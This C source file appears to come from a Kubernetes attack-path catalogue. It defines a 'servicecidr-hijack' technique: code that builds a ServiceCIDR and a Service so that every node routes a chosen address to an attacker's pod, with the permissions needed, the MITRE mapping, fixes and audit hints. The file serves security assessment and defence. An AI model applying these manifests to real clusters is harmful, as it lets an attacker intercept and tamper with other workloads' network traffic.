// The API server takes a range that it does not own, and a Service with a clusterIP inside (1.35.1); kube-proxy then answers
// for that address on every node.
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool body(struct payload *p)
{
	if (p->alternative == 0)
		p->object = build_doc(p, "{apiVersion: 'networking.k8s.io/v1', kind: 'ServiceCIDR', metadata: {name: ?}, spec: {cidrs: ['192.0.2.0/24']}}",
			build_name(p));
	else
		p->object = build_doc(p, "{apiVersion: 'v1', kind: 'Service', metadata: {name: ?, namespace: ?}, spec: {clusterIP: '192.0.2.1', "
			"selector: {app: 'bulkhead-probe'}, ports: [{port: 443}]}}", build_name(p), build_ns(p));
	return true;
}

const struct technique technique_servicecidr_hijack = {
	.id = "servicecidr-hijack",
	.title = "Make any address a Service address",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_NETWORK,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY,
	.attack = "T1557",
	.matrix = "MS-TA9034",
	.needs = "create on servicecidrs, and create on services",
	.gives = "takes traffic that every node sends to any address",
	.fixes =
		"Remove create on servicecidrs\n"
		"Allow only the platform's ranges by admission policy",
	.audit = "create of servicecidrs",
	.source = "KEP-1880",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_TRAFFIC,
	.since = 33,
	.grant = {
		{ "create", "networking.k8s.io", "servicecidrs", .scope = SCOPE_CLUSTER },
		{ "create", "", "services" },
	},
	.body = body,
};
